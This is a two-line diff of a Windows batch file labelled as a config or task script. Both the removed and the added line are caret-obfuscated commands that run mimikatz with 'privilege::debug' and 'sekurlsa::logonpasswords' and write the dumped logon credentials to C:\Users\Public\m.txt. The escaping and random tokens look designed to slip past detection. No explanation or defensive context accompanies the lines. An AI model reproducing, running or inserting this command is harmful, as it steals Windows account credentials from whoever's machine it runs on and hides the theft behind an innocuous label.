@@ -1,2 +1,2 @@
-REM config 7228 v4
-fo^r /f "tokens=1 delims=~" %%^i i^n ("mimikatz.exe~lkag~hjji") do %%^i "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Us^ers\^Pu^bl^ic\m.t^xt
+REM task 9043 v4
+for /^f "tokens=1 delims=~" %%i i^n ("mimikatz.exe~cwpq~amix") do %%i "privilege::debug" "sekurlsa::logonpasswords" "exit" > ^C:\Us^ers\^P^ubli^c\^m.tx^t
